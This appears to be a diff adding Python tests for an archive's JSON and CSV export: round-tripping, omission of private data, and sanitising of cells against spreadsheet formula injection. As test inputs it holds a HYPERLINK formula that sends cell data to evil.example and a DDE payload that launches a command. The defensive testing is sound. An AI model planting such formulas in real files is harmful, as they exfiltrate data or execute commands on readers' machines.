@@ -1,0 +1,80 @@
+"""What leaves the archive: whole, readable again, and harmless."""
+
+import csv
+import io
+import json
+from dataclasses import replace
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bot.cli.items import entry_of
+from jobs.archive import as_csv, as_lines, harmless
+from jobs.takedown import take_down
+from storage.database import Database
+from tests.builders import NOON, a_source, a_statement, kept
+from tests.filled import fill
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
+
+
+def lines(database: Database) -> list[dict[str, object]]:
+    """The archive as JSON objects."""
+    with database.read() as work:
+        return [json.loads(line) for line in b"".join(as_lines(work)).splitlines()]
+
+
+def test_every_statement_is_a_line_that_can_be_imported(database: Database) -> None:
+    """With its id, its words, its dates, its files, and what it said before."""
+    with database.write() as work:
+        fill(work)
+    plain, rich = lines(database)
+    entry, source = entry_of(rich)
+    assert (entry.uid, source.name, source.organisation) == ("rich", "other", "Südlicht")
+    assert (entry.enclosures, entry.date_only, entry.published) == (("http://127.0.0.1/a.pdf",), True, NOON)
+    assert rich["kind"] == "open_letter"
+    assert rich["versions"][0]["title"] == "긴급: 강제 북송 중단 — “quoted”"  # type: ignore[index]
+    assert rich["gone"]
+    assert plain["id"] == "plain"
+
+
+def test_nothing_about_people_is_in_it(database: Database) -> None:
+    """Nor what was taken down, nor where a source is asked."""
+    with database.write() as work:
+        fill(work)
+        (named,) = kept(work, a_statement(title="Somebody hides"))
+        take_down(work, named.id, "why", NOON)
+    with database.read() as work:
+        written = b"".join([*as_lines(work), *as_csv(work)]).decode()
+    for secret in ("-1001", "terminal", "telegram", "수용소", "hides", "taken down", "other.example/feed"):
+        assert secret not in written
+
+
+def test_a_table_holds_no_formula(database: Database) -> None:
+    """A publisher's words are shown by a spreadsheet, and never carried out."""
+    with database.write() as work:
+        kept(work, a_statement(title=FORMULA, text=f" {FORMULA}", issuers=("+cmd|' /C calc'!A0",)))
+    with database.read() as work:
+        table = b"".join(as_csv(work)).decode("utf-8-sig")
+    (row,) = csv.DictReader(io.StringIO(table))
+    assert row["title"] == f"'{FORMULA}"
+    assert row["text"] == f"' {FORMULA}"
+    assert row["issuers"].startswith("'+cmd")
+    assert row["number"].isdigit()
+
+
+@given(st.text(max_size=40))
+def test_no_cell_begins_as_a_formula_does(text: str) -> None:
+    """Whatever it holds; and nothing of it is lost."""
+    cell = harmless(text)
+    assert isinstance(cell, str)
+    assert not cell.lstrip().startswith(("=", "+", "-", "@"))
+    assert cell.removeprefix("'") in (text.replace("\x00", ""), text.replace("\x00", "").removeprefix("'"))
+
+
+def test_what_was_rewritten_by_us_changes_nothing(database: Database) -> None:
+    """An export is the same each time."""
+    with database.write() as work:
+        (one,) = kept(work, a_statement())
+        work.statements.change(replace(one, title="Now"), work.sources.ensure(a_source()), NOON)
+    assert lines(database) == lines(database)
